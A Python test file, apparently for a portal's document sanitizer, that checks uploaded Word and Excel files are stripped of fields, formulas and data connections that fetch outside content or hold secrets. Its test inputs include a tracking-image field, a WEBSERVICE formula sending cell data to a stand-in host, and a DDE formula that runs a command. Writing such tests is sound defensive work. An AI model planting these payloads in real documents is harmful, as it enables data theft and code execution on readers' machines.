"""Documents lose every order that fetches something when they are opened, and keep their words."""

import io
import zipfile

import pytest

from portal.files.formats import UnfitFile
from portal.files.ingest import take_in
from tests.files import samples
from tests.files.test_documents import W, parts_of


@pytest.mark.parametrize(
    "order",
    [
        *(
            'INCLUDEPICTURE "http://x.example/spy.png" \\d',
            "INCLUDE C:\\\\plan.docx",
            "IMPORT a.png",
        ),
        *('DATABASE \\c "DSN=secret"', "LINK Excel.Sheet", "RD http://x.example/a.docx"),
    ],
)
def test_every_field_that_reads_something_outside_keeps_its_words_alone(order: str) -> None:
    told = order.replace('"', "&quot;")
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    page = '<w:fldSimple w:instr=" PAGE "><w:t>3</w:t></w:fldSimple>'
    simple = f'<w:fldSimple w:instr=" {told} "><w:t>42</w:t></w:fldSimple>'
    empty = f'<w:fldSimple w:instr="{told}"/>'
    words = f"<d {W}>{begin}<w:instrText> {told}</w:instrText>{end}{simple}{empty}{page}</d>"
    parts = parts_of("a.docx", samples.docx(words=words))
    left = f"<d {W}><w:t>42</w:t>{page}</d>"
    assert parts["word/document.xml"].decode() == left


def test_a_field_inside_of_an_order_that_fetches_stays_hidden() -> None:
    begin, turn, end = (
        f'<w:fldChar w:fldCharType="{one}"/>' for one in ("begin", "separate", "end")
    )
    order = "<w:instrText>{}</w:instrText>".format
    inner = f"{begin}{order('PAGE')}{turn}<w:t>1</w:t>{end}"
    words = f"<d {W}>{begin}{order('INCLUDEPICTURE ')}{inner}{turn}<w:t>42</w:t>{end}</d>"
    left = f"<d {W}>{begin}{inner}{turn}<w:t>42</w:t>{end}</d>"
    parts = parts_of("a.docx", samples.docx(words=words))
    assert parts["word/document.xml"].decode() == left
    simple = f"<d {W}>{begin}{order('LINK Excel')}{turn}<w:t>42</w:t>{end}</d>"
    parts = parts_of("a.docx", samples.docx(words=simple))
    assert parts["word/document.xml"].decode() == f"<d {W}><w:t>42</w:t></d>"


def test_letters_forget_where_their_addresses_came_from_and_what_programs_kept_beside_them() -> (
    None
):
    settings = f'<s {W}><mailMerge><connectString val="Password=secret"/></mailMerge><z/></s>'
    parts = parts_of(
        "a.docx",
        samples.docx({"word/settings.xml": settings, "customXml/item1.xml": "<p>Somebody</p>"}),
    )
    assert parts["word/settings.xml"].decode() == f"<s {W}><z/></s>"
    assert [name for name in parts if name.startswith("customXml")] == []


def test_words_in_a_format_of_the_web_are_refused_for_they_could_fetch() -> None:
    types = samples.types_of("/word/document.xml").replace(
        "</Types>", '<Default Extension="htm" ContentType="text/html"/></Types>'
    )
    body = samples.docx({"word/afchunk.htm": "<img src=http://x.example/>"}, types=types)
    with pytest.raises(UnfitFile) as told:
        take_in("a.docx", body, "")
    assert told.value.problem == "links"


@pytest.mark.parametrize(
    "formula",
    [
        *('WEBSERVICE("http://x.example/?"&amp;A1)', '_xlfn.WEBSERVICE("x")', "1+_xlfn.IMAGE(A1)"),
        *('RTD("a",,"b")', "cmd|'/c calc'!A1", "CUBEVALUE(A1)", "'[2]Other'!A1"),
    ],
)
def test_a_formula_that_fetches_keeps_its_value_wherever_it_stands(formula: str) -> None:
    cells = (
        f'<c r="Y1"><f t="shared" ref="Y1:Y2" si="0">{formula}</f><v>5</v></c>'
        '<c r="Y2"><f t="shared" si="0"/><v>6</v></c>'
        f'<c r="Z1"><f>{formula}</f><v>7</v></c>'
        '<c r="Z2"><f>SUM(A1)&amp;"IMAGE(|[1]"</f><v>8</v></c></row>'
    )
    rules = f"<cfRule><formula>{formula}</formula></cfRule>"
    changed = {"</row>": cells, "</worksheet>": f"{rules}</worksheet>"}
    sheet = parts_of("a.xlsx", with_sheet(changed))["xl/worksheets/sheet1.xml"].decode()
    assert '<c r="Y1"><v>5</v></c><c r="Y2"><v>6</v></c><c r="Z1"><v>7</v></c>' in sheet
    assert '<f>SUM(A1)&amp;"IMAGE(|[1]"</f>' in sheet
    assert "<cfRule></cfRule>" in sheet


def test_connections_stay_as_names_that_lead_nowhere() -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    written = (
        f'<connections xmlns="{main}"><connection id="1" name="Query - secret" type="5" '
        'refreshOnLoad="1" refreshedVersion="6"><dbPr connection="Password=secret" command="x"/>'
        "</connection></connections>"
    )
    table = f'<queryTable xmlns="{main}" name="q" refreshOnLoad="1" connectionId="1"/>'
    body = with_parts(
        {"xl/connections.xml": written, "xl/queryTables/queryTable1.xml": table},
        {"xl/connections.xml": "connections", "xl/queryTables/queryTable1.xml": "queryTable"},
    )
    parts = parts_of("a.xlsx", body)
    left = (
        '<connection name="Connection 1" refreshedVersion="6" id="1" type="5">'
        '<dbPr connection=""/></connection>'
    )
    assert (
        parts["xl/connections.xml"].decode() == f'<connections xmlns="{main}">{left}</connections>'
    )
    assert b"refreshOnLoad" not in parts["xl/queryTables/queryTable1.xml"]
    assert b"secret" not in b"".join(parts.values())


def test_the_order_of_formulas_goes_with_its_line_in_the_table_of_contents() -> None:
    body = with_parts({"xl/calcChain.xml": "<calcChain/>"}, {"xl/calcChain.xml": "calcChain"})
    parts = parts_of("a.xlsx", body)
    assert "xl/calcChain.xml" not in parts
    assert b"calcChain" not in parts["[Content_Types].xml"]


def with_sheet(changed: dict[str, str]) -> bytes:
    """Return a workbook with other words in its sheet."""
    body = samples.xlsx()
    with zipfile.ZipFile(io.BytesIO(body)) as read:
        sheet = read.read("xl/worksheets/sheet1.xml").decode()
    for old, new in changed.items():
        sheet = sheet.replace(old, new, 1)
    return samples.renamed(body, {}, {"xl/worksheets/sheet1.xml": sheet})


def with_parts(more: dict[str, str], kinds: dict[str, str]) -> bytes:
    """Return a workbook with more parts, each with its line in the table of contents."""
    body = samples.xlsx()
    with zipfile.ZipFile(io.BytesIO(body)) as read:
        parts: dict[str, bytes | str] = {name: read.read(name) for name in read.namelist()}
    told = "".join(
        f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-officedocument.'
        f'spreadsheetml.{kind}+xml"/>'
        for name, kind in kinds.items()
    )
    types = bytes(parts["[Content_Types].xml"]).decode()  # type: ignore[arg-type]
    parts["[Content_Types].xml"] = types.replace("</Types>", f"{told}</Types>")
    return samples.archive(parts | more)
